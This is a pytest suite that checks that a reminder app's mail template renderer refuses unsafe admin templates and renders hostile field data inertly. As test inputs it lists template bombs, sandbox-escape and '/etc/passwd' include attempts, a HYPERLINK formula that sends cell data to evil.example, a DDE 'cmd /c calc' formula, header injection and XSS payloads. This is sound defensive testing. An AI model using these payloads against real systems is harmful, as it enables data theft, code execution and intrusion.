"""Templates of the admin: what is refused, what falls back, what ``check`` names."""

from __future__ import annotations

import os
import re
import shutil
from dataclasses import replace
from pathlib import Path
from types import MappingProxyType

import pytest

from reminder.errors import Problem
from reminder.mail.checks import find_template_problems
from reminder.mail.context import letter_context
from reminder.mail.letters import Letter
from reminder.mail.render import Rendered, Renderer
from reminder.mail.samples import sample_agreement, sample_letter, sample_letters, sample_notice
from reminder.mail.sandbox import inline_css
from reminder.resources import shipped

SHIPPED = shipped("templates")
RENDERER = Renderer([SHIPPED])


@pytest.fixture
def own(tmp_path: Path) -> Path:
    """The admin's template folder, still empty."""
    folder = tmp_path / "templates"
    (folder / "email" / "expiry" / "id").mkdir(parents=True)
    return folder


@pytest.fixture(scope="session")
def few(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The shipped frame, ``expiry`` and ``plain``: enough, and checked in no time."""
    folder = tmp_path_factory.mktemp("few") / "templates"
    for name in ("expiry", "plain"):
        shutil.copytree(SHIPPED / "email" / name, folder / "email" / name)
    for frame in (SHIPPED / "email").glob("_base.*"):
        shutil.copy(frame, folder / "email")
    return folder


def write(own: Path, source: str, name: str = "expiry/id/body.txt.j2") -> Path:
    path = own / "email" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source, encoding="utf-8")
    return path


def render(own: Path, letter: Letter | None = None) -> Rendered:
    return Renderer([own, SHIPPED]).render(letter or sample_letters("id")["expiry"])


def problems(own: Path, others: Path = SHIPPED) -> list[Problem]:
    return find_template_problems([own, others], ["id", "en"])


def assert_plain_notice(mail: Rendered) -> None:
    """The recipient has what matters, whatever became of the template."""
    assert mail.template == "plain"
    assert mail.subject == "[H-90] MoU Sister Province Contoh - Queensland: 6 Agustus 2024"
    assert "Selasa, 6 Agustus 2024 (90 hari kalender lagi)" in " ".join(mail.text.split())
    assert "reminder-link:1" in mail.text
    assert 'href="reminder-link:1"' in mail.html


def test_shipped_templates_have_no_problem() -> None:
    assert find_template_problems([SHIPPED], ["id", "en"]) == []


def test_admin_overrides_one_file_and_keeps_the_rest(own: Path) -> None:
    write(own, "Judul sendiri: {{ title }}\n", "expiry/id/subject.txt.j2")
    mail = render(own)
    assert mail.error == ""
    assert mail.subject == "Judul sendiri: MoU Sister Province Contoh - Queensland"
    assert "Bersama ini diinformasikan" in mail.text
    assert problems(own) == []


def test_sentences_of_the_admin_stand_in_text_and_html_alike(own: Path) -> None:
    write(
        own,
        "{% block opening %}Perihal <b>{{ title }}</b>.{% endblock %}\n"
        "{% block action %}Mohon ditindaklanjuti.{% endblock %}\n",
        "expiry/id/sentences.txt.j2",
    )
    mail = render(own)
    assert mail.error == ""
    assert "Perihal <b>MoU Sister Province Contoh - Queensland</b>." in mail.text
    assert "Perihal &lt;b&gt;MoU Sister Province Contoh - Queensland&lt;/b&gt;." in mail.html
    assert "Mohon ditindaklanjuti." in mail.text
    assert problems(own) == []


def test_body_of_the_admin_goes_before_the_shared_sentences(own: Path) -> None:
    block = '{% extends "_base.txt.j2" %}{% block opening %}Kalimat sendiri.{% endblock %}'
    write(own, block, "expiry/id/body.txt.j2")
    mail = render(own)
    assert "Kalimat sendiri." in mail.text
    assert "Mohon Saudara menetapkan sikap" in " ".join(mail.text.split())
    assert "Bersama ini diinformasikan" in mail.html


def test_mistake_in_the_sentences_is_named_with_its_line(own: Path) -> None:
    write(
        own,
        "{% block action %}\n{{ titel }}\n{% endblock %}\n",
        "expiry/id/sentences.txt.j2",
    )
    mail = render(own)
    assert_plain_notice(mail)
    assert mail.error.startswith("templates/email/expiry/id/sentences.txt.j2:2: ")
    assert any('"title"?' in str(problem) for problem in problems(own))


def test_template_version_changes_with_any_file_used(own: Path) -> None:
    before = render(own).template_version
    frame = (SHIPPED / "email" / "_base.txt.j2").read_text(encoding="utf-8")
    write(own, frame + "Catatan.\n", "_base.txt.j2")
    after = render(own).template_version
    assert re.fullmatch(r"[0-9a-f]{12}", before)
    assert before != after
    assert after == render(own).template_version
    write(own, "{% block opening %}Lain.{% endblock %}", "expiry/id/sentences.txt.j2")
    assert render(own).template_version not in (before, after)


# --- what the language does not have ---

BOMBS = [
    pytest.param("{{ 'a' * 999999999 }}", "Mul", id="a text times a thousand million"),
    pytest.param("{{ 10 ** 10 ** 10 }}", "Pow", id="a power of a power"),
    pytest.param("{{ '%0999999999d' % 1 }}", "Mod", id="a format of a gigabyte"),
    pytest.param("{{ '%0999999999d'|format(1) }}", 'filter "format"', id="the same as a filter"),
    pytest.param("{{ 'a'|center(999999999) }}", 'filter "center"', id="a wide line"),
    pytest.param("{{ title|replace('a', 'aaaa') }}", 'filter "replace"', id="growing by replace"),
    pytest.param(
        "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
        "a for loop goes over a list",
        id="nested ranges",
    ),
    pytest.param(
        "{% for a in facts %}{% for b in facts %}{% for c in facts %}x{% endfor %}{% endfor %}"
        "{% endfor %}",
        "at most 2 deep",
        id="three loops",
    ),
    pytest.param("{% for a in [1, 2] recursive %}{% endfor %}", "for loop", id="a recursive loop"),
    pytest.param("{% set a = title ~ title %}", "Assign", id="a text doubled by set"),
    pytest.param("{% with a = title ~ title %}{% endwith %}", "With", id="a text doubled by with"),
    pytest.param("{% macro a() %}{{ a() }}{% endmacro %}", "Macro", id="a macro of itself"),
    pytest.param("{{ title.upper() }}", "nothing can be called", id="a method"),
    pytest.param("{{ lipsum(1000) }}", "nothing can be called", id="lipsum"),
    pytest.param("{{ cycler('a', 'b') }}", "nothing can be called", id="cycler"),
    pytest.param("{{ namespace(a=1) }}", "nothing can be called", id="namespace"),
    pytest.param("{{ title|attr('__class__') }}", 'filter "attr"', id="attr"),
    pytest.param("{{ title.__class__ }}", "only the fields", id="a double underscore"),
    pytest.param("{{ title['__class__'] }}", "only the fields", id="the same in brackets"),
    pytest.param("{{ words['gree' ~ 'ting'] }}", "only the fields", id="a name put together"),
    pytest.param("{{ title|safe }}", 'filter "safe"', id="safe"),
    pytest.param("{% autoescape false %}{{ title }}{% endautoescape %}", "no use", id="no escape"),
    pytest.param("{% include title %}", "the name of the other template", id="a name from data"),
    pytest.param("{% include '../../../etc/passwd' %}", ":2: uses ..", id="a path"),
    pytest.param("{% include '/etc/passwd' %}", ":2: uses /etc", id="an absolute path"),
    pytest.param("{% include 'expiry/id/body.txt.j2' %}", "includes itself", id="itself"),
    pytest.param("{% include 'nothing/id/body.txt.j2' %}", "is missing", id="one that is not"),
    pytest.param("{% import 'plain/id/body.txt.j2' as x %}", "Import", id="import"),
    pytest.param("{{ 1 / 0 }}", "Div", id="a division"),
    pytest.param("{{ [1, 2] }}", "List", id="a list of its own"),
    pytest.param("{% if x %}", "end of template", id="an open if"),
]


@pytest.mark.parametrize(("source", "reason"), BOMBS)
def test_bomb_is_refused_when_it_is_loaded(own: Path, few: Path, source: str, reason: str) -> None:
    write(own, f"Baris satu\n{source}\n")
    mail = render(own)
    assert_plain_notice(mail)
    assert reason in mail.error
    found = problems(own, few)
    assert [p.file for p in found] == ["templates/email/expiry/id/body.txt.j2"]
    assert reason in str(found[0])


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("{{ title|wrap(999999999) }}", id="wrap with a wide indent"),
        pytest.param("{{ title|join(title) }}", id="join of the letters of a text"),
        pytest.param("{{ facts|join('x') }}", id="join of pairs"),
    ],
)
def test_filter_out_of_bounds_fails_the_template_and_not_the_machine(
    own: Path, source: str
) -> None:
    write(own, source)
    assert_plain_notice(render(own))


def test_output_without_end_is_cut_off(own: Path) -> None:
    inner = "{% for a in facts %}{% for b in facts %}" + "x" * 30_000 + "{% endfor %}{% endfor %}"
    write(own, inner)
    mail = render(own)
    assert_plain_notice(mail)
    assert "makes more than" in mail.error


def test_context_holds_plain_data_only() -> None:
    def check(value: object) -> None:
        if isinstance(value, MappingProxyType):
            for name, inner in value.items():
                assert isinstance(name, str)
                check(inner)
        elif isinstance(value, tuple):
            for inner in value:
                check(inner)
        else:
            assert type(value) in (str, int, bool)

    for letter in sample_letters("id").values():
        check(MappingProxyType(letter_context(letter)))


# --- what is no template file ---


def _link(path: Path) -> None:
    secret = path.parent.parent.parent.parent / "secret.txt"
    secret.write_text("rahasia")
    path.symlink_to(secret)


def _folder_link(path: Path) -> None:
    elsewhere = path.parent.parent.parent.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / path.name).write_text("rahasia")
    path.parent.rmdir()
    path.parent.symlink_to(elsewhere)


UNFIT = [
    pytest.param(_link, "is a link", id="a link to another file"),
    pytest.param(_folder_link, "is a link", id="a folder that is a link"),
    pytest.param(lambda path: path.mkdir(), "is not a regular file", id="a folder"),
    pytest.param(lambda path: os.mkfifo(path), "is not a regular file", id="a pipe"),
    pytest.param(
        lambda path: path.write_bytes(b"x" * 65_537), "larger than 64 KiB", id="too large"
    ),
    pytest.param(lambda path: path.write_bytes(b"satu\n\xff\xfe"), ":2: is not UTF-8", id="bytes"),
    pytest.param(
        lambda path: path.write_text("satu\ndua \u202egnp"), ":2: has the invisible", id="bidi"
    ),
]


@pytest.mark.parametrize(("make", "reason"), UNFIT)
def test_file_that_is_no_template_is_refused(
    own: Path, few: Path, make: object, reason: str
) -> None:
    assert callable(make)
    make(own / "email/expiry/id/body.txt.j2")
    mail = render(own)
    assert_plain_notice(mail)
    assert reason in mail.error
    assert "rahasia" not in mail.text + mail.html
    assert any(reason in str(problem) for problem in problems(own, few))


# --- subjects ---


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        pytest.param("Satu\nBcc: semua@example.org", "a line break", id="a line break"),
        pytest.param("Satu \x07 dua", "control character", id="a bell"),
        pytest.param("  \n", "empty subject", id="empty"),
    ],
)
def test_impossible_subject_is_a_failure(own: Path, source: str, reason: str) -> None:
    write(own, source, "expiry/id/subject.txt.j2")
    mail = render(own)
    assert_plain_notice(mail)
    assert reason in mail.error


def test_subject_of_3000_characters_is_cut_and_named_by_check(own: Path) -> None:
    write(own, "kata " * 600, "expiry/id/subject.txt.j2")
    mail = render(own)
    assert mail.template == "expiry"
    assert len(mail.subject) <= 90
    assert mail.subject.endswith("kata…")
    (found,) = problems(own)
    assert found.level == "warning"
    assert "more than 90 characters" in found.message


# --- a template that fails never costs the notice ---


def test_missing_name_gives_the_plain_notice_and_the_place(own: Path) -> None:
    write(own, "Baris satu\n\nYth. {{ titel }}\n")
    mail = render(own)
    assert_plain_notice(mail)
    assert mail.error.startswith("templates/email/expiry/id/body.txt.j2:3: ")
    assert "'titel' is undefined" in mail.error


def test_line_of_an_error_is_that_of_the_file_although_css_was_inlined(own: Path) -> None:
    source = (
        "<html>\n<head><style>\np { margin: 0 }\n\n\n</style></head>\n<p>{{ titel }}</p></html>"
    )
    write(own, source, "expiry/id/body.html.j2")
    assert render(own).error.startswith("templates/email/expiry/id/body.html.j2:7: ")


def test_broken_frame_of_the_admin_does_not_touch_the_plain_notice(own: Path) -> None:
    write(own, "{{ nothing_of_the_kind }}", "_base.txt.j2")
    write(own, "{{ nothing_of_the_kind }}", "_base.html.j2")
    write(own, "{{ nothing_of_the_kind }}", "plain/id/body.txt.j2")
    assert_plain_notice(render(own))


def test_template_that_does_not_exist_gives_the_plain_notice(own: Path) -> None:
    letter = sample_letter("id", replace(sample_notice("expiry", "id"), template="khusus"))
    mail = render(own, letter)
    assert_plain_notice(mail)
    assert "khusus/id/subject.txt.j2: is missing" in mail.error


def test_language_that_nobody_wrote_gives_the_plain_notice_in_indonesian(own: Path) -> None:
    mail = render(own, replace(sample_letters("id")["expiry"], language="fr"))
    assert_plain_notice(mail)
    assert "expiry/fr/" in mail.error


def test_digest_that_fails_still_lists_everything(own: Path) -> None:
    write(own, "{{ titel }}", "digest/id/body.txt.j2")
    mail = render(own, sample_letters("id")["digest"])
    assert mail.template == "plain"
    assert all(f"reminder-link:{number}" in mail.text for number in range(2, 7))


def test_impossible_facts_still_give_a_mail() -> None:
    sample = sample_notice("expiry", "id")
    facts = replace(sample, agreement=None, lead_time=None)  # type: ignore[arg-type] # the defect
    mail = RENDERER.render(sample_letter("id", facts))
    assert mail.template == "plain"
    assert "2024-08-06" in mail.text
    assert mail.error


def test_plain_notice_that_fails_too_leaves_a_bare_mail(tmp_path: Path) -> None:
    mail = Renderer([tmp_path]).render(sample_letters("id")["expiry"])
    assert mail.template == "plain"
    assert mail.subject == "[H-90] MoU Sister Province Contoh - Queensland: 2024-08-06"
    assert "reminder-link:1" in mail.text
    assert "plain/id/subject.txt.j2: is missing" in mail.error


def test_one_failing_letter_changes_nothing_for_the_next(own: Path) -> None:
    write(own, "{% if late %}{{ titel }}{% endif %}Tepat waktu")
    renderer = Renderer([own, SHIPPED])
    letter = sample_letters("id")["expiry"]
    late = replace(letter, today=letter.today.replace(year=2025))
    assert renderer.render(late).template == "plain"
    assert renderer.render(letter).template == "expiry"


# --- check ---


def test_check_names_every_mistake_with_file_line_and_near_name(own: Path) -> None:
    write(own, "satu\n{{ titel }}\n{{ due_dya }}\n")
    write(own, "{{ title }}\n{% if late %}{{ partnr }}{% endif %}", "report/en/subject.txt.j2")
    write(own, "x", "khusus/id/subject.txt.j2")
    lines = [str(problem) for problem in problems(own)]
    assert 'templates/email/expiry/id/body.txt.j2:2: no mail has a value "titel"; did you mean ' \
        '"title"?' in lines  # fmt: skip
    assert any("body.txt.j2:3:" in line and '"due_day"?' in line for line in lines)
    assert any("report/en/subject.txt.j2:2:" in line and '"partner"?' in line for line in lines)
    for language, part in (("id", "body.txt"), ("id", "body.html"), ("en", "subject.txt")):
        assert any(
            line.startswith(f"templates/email/khusus/{language}/{part}.j2: is missing")
            for line in lines
        )
    assert len(lines) == len(set(lines))


def test_check_finds_what_only_some_letters_bring_out(own: Path) -> None:
    write(own, "{% if days %}{{ facts|join('x') }}{% endif %}")
    (found,) = problems(own)
    assert (found.file, found.line) == ("templates/email/expiry/id/body.txt.j2", 1)


# --- data stays data ---

HOSTILE = [
    pytest.param('=HYPERLINK("https://evil.example/?"&A1,"klik")', id="X-01 a formula"),
    pytest.param("@SUM(1+1)*cmd|'/c calc'!A0", id="X-02 a DDE formula"),
    pytest.param("＝1+1", id="X-03 a fullwidth formula"),
    pytest.param("PT X\r\nBcc: all@example.org", id="X-04 a header"),
    pytest.param("Biro\u2028Bcc: x@example.org\x85\x0b", id="X-05 other line breaks"),
    pytest.param("Bi\x00ro", id="X-06 NUL"),
    pytest.param("{{ config }}{% for x in facts %}{{ ''.__class__ }}{% endfor %}", id="X-07 code"),
    pytest.param("<script>alert(1)</script><img src=x onerror=alert(1)>", id="X-08 a script"),
    pytest.param('</td></table><p style="width:expression(1)">', id="X-08 a table that ends"),
    pytest.param("abc\u202egnp.exe раjak.go.id", id="X-10 direction and lookalikes"),
    pytest.param("a" + "\u0301" * 10_000, id="X-09 ten thousand marks"),
    pytest.param("half \ud800 character", id="X-11 half a character"),
    pytest.param("reminder-link:99 javascript:alert(1)", id="a link of its own"),
]


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("kind", ["expiry", "notice_by", "step", "follow_up"])
def test_hostile_data_stays_data(hostile: str, kind: str) -> None:
    agreement = replace(
        sample_agreement(), title=hostile, partner=hostile, country=hostile, local_party=hostile,
        letter_number=hostile, leading_unit=hostile,
    )  # fmt: skip
    facts = replace(
        sample_notice(kind, "id"), agreement=agreement, meeting=hostile, follow_up_text=hostile,
        step_title=hostile, successor_of=hostile, legal_basis=hostile,
    )  # fmt: skip
    letter = replace(sample_letter("id", facts), recipient_name=hostile, bureau_name=hostile)
    usual = RENDERER.render(sample_letters("id")[kind])
    mail = RENDERER.render(letter)
    assert mail.error == ""
    assert mail.subject.isprintable()
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", mail.text)
    mail.html.encode()
    # Same elements and attributes as ever, so no markup of the data's came through.
    tags = re.compile(r"<(/?[a-z0-9]+)")
    extra = set(tags.findall(mail.html)) - set(tags.findall(usual.html))
    assert extra == set()
    links = re.findall(r'href="([^"]*)"', mail.html)
    assert {link.partition("/")[0] for link in links} == {"reminder-link:1"}
    assert "reminder-link:99" not in mail.text
    if "{{" in hostile:
        assert "{{ config }}" in mail.text


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "//evil.example", "data:text/html,x", "https://a b", "x"]
)
def test_only_addresses_of_pages_become_links(link: str) -> None:
    letter = sample_letter("id", replace(sample_notice("expiry", "id"), link=link))
    mail = RENDERER.render(letter)
    assert "href=" not in mail.html


def test_css_inlining_keeps_every_tag_of_jinja_where_it_stood() -> None:
    source = (
        "<html><head><style>td { color: red } .x { margin: 0 }</style></head><body>"
        '<table class="x" style="width: {{ w }}">{% for r in rows %}<tr><td title="{{ r }}">'
        "{{ r }}{# note #}</td></tr>{% endfor %}</table></body></html>"
    )
    inlined = inline_css(source)
    assert re.findall(r"\{%.*?%\}|\{\{.*?\}\}|\{#.*?#\}", inlined) == [
        "{{ w }}", "{% for r in rows %}", "{{ r }}", "{{ r }}", "{# note #}", "{% endfor %}",
    ]  # fmt: skip
    assert 'style="color:red' in inlined
    assert "JINJA" not in inlined
